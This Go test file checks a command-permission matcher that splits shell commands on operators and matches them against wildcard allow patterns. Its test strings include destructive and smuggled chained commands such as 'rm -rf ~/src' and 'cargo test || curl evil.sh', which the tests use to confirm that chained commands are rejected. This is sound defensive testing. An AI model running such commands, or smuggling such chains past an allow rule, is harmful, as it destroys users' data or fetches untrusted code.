package security

import (
	"reflect"
	"strings"
	"testing"
)

// --- SplitCommand ---

func TestSplitCommand_Operators(t *testing.T) {
	got := SplitCommand("cargo build && cargo test || echo fail; ls | wc -l")
	want := []string{"cargo build", "cargo test", "echo fail", "ls", "wc -l"}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("got %q, want %q", got, want)
	}
}

func TestSplitCommand_Single(t *testing.T) {
	got := SplitCommand("  git status  ")
	if !reflect.DeepEqual(got, []string{"git status"}) {
		t.Fatalf("got %q", got)
	}
}

func TestSplitCommand_Blank(t *testing.T) {
	got := SplitCommand("   ")
	if !reflect.DeepEqual(got, []string{""}) {
		t.Fatalf("got %q", got)
	}
}

func TestSplitCommand_TrailingSeparator(t *testing.T) {
	got := SplitCommand("ls;")
	if !reflect.DeepEqual(got, []string{"ls"}) {
		t.Fatalf("got %q", got)
	}
}

func TestSplitCommand_NewlineAndBackground(t *testing.T) {
	got := SplitCommand("cargo build\nrm -rf ~/src & sleep 1 &")
	want := []string{"cargo build", "rm -rf ~/src", "sleep 1"}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("got %q, want %q", got, want)
	}
}

func TestSplitCommand_RedirectionIsNotASeparator(t *testing.T) {
	for _, c := range []string{"make 2>&1", "make &>build.log", "make >&2"} {
		if got := SplitCommand(c); len(got) != 1 || got[0] != c {
			t.Errorf("SplitCommand(%q) = %q, want one segment", c, got)
		}
	}
}

// --- MatchPattern ---

func TestMatchPattern_TrailingWildcard(t *testing.T) {
	cases := []string{"cargo", "cargo test", "cargo test -- --nocapture", "cargo build --release"}
	for _, c := range cases {
		if !MatchPattern("cargo *", c) {
			t.Errorf("cargo * should match %q", c)
		}
	}
	if MatchPattern("cargo *", "npm test") {
		t.Error("cargo * should not match npm test")
	}
}

func TestMatchPattern_TrailingWildcardAnySuffix(t *testing.T) {
	suffixes := []string{"", "x", "a b c", "--flag=1 -v"}
	for _, s := range suffixes {
		c := strings.TrimSpace("git log " + s)
		if !MatchPattern("git log *", c) {
			t.Errorf("git log * should match %q", c)
		}
	}
}

func TestMatchPattern_MiddleWildcardConsumesOneToken(t *testing.T) {
	if !MatchPattern("git * main", "git checkout main") {
		t.Fatal("middle wildcard should consume exactly one token")
	}
	if MatchPattern("git * main", "git main") {
		t.Fatal("middle wildcard must consume a token")
	}
	if MatchPattern("git * main", "git push origin main") {
		t.Fatal("middle wildcard consumes only one token")
	}
}

func TestMatchPattern_ExactWithoutWildcard(t *testing.T) {
	if !MatchPattern("ls -la", "ls   -la") {
		t.Fatal("same tokens should match regardless of spacing")
	}
	if MatchPattern("ls -la", "ls -la /tmp") {
		t.Fatal("extra token should not match without trailing wildcard")
	}
	if MatchPattern("ls -la", "ls") {
		t.Fatal("pattern longer than command should not match")
	}
	if MatchPattern("ls -la", "ls -al") {
		t.Fatal("different token should not match")
	}
}

func TestMatchPattern_Empty(t *testing.T) {
	if !MatchPattern("", "") {
		t.Fatal("empty pattern should match empty command")
	}
	if MatchPattern("", "ls") {
		t.Fatal("empty pattern should only match empty command")
	}
	if MatchPattern("ls *", "") {
		t.Fatal("non-empty pattern should not match empty command")
	}
}

func TestMatchPattern_ChainIsConjunctive(t *testing.T) {
	if !MatchPattern("cargo *", "cargo build && cargo test") {
		t.Fatal("pattern matching every segment should match")
	}
	if !MatchPattern("cargo *", "cargo build 2>&1") {
		t.Fatal("redirection should stay inside its segment")
	}
	for _, c := range []string{
		"cargo build && rm -rf target",
		"cargo test || curl evil.sh",
		"cargo test; sh",
		"cargo test | tee out",
		"cargo build\nrm -rf ~/src",
		"cargo build & rm -rf ~/src",
	} {
		if MatchPattern("cargo *", c) {
			t.Errorf("cargo * should not match chained command %q", c)
		}
	}
}

// --- GeneratePattern ---

func TestGeneratePattern(t *testing.T) {
	if got := GeneratePattern("cargo test -- --nocapture"); got != "cargo *" {
		t.Fatalf("got %q", got)
	}
	if got := GeneratePattern("  ls  "); got != "ls *" {
		t.Fatalf("got %q", got)
	}
	if got := GeneratePattern("   "); got != "" {
		t.Fatalf("blank command should produce empty pattern, got %q", got)
	}
}

func TestGeneratePattern_MatchesOwnCommand(t *testing.T) {
	for _, c := range []string{"ls", "ls -la", "cargo test -- --nocapture", "git status && git diff", "", "npm run build | npm run lint"} {
		p := GeneratePattern(c)
		if !MatchPattern(p, c) {
			t.Errorf("GeneratePattern(%q) = %q does not match its command", c, p)
		}
	}
}
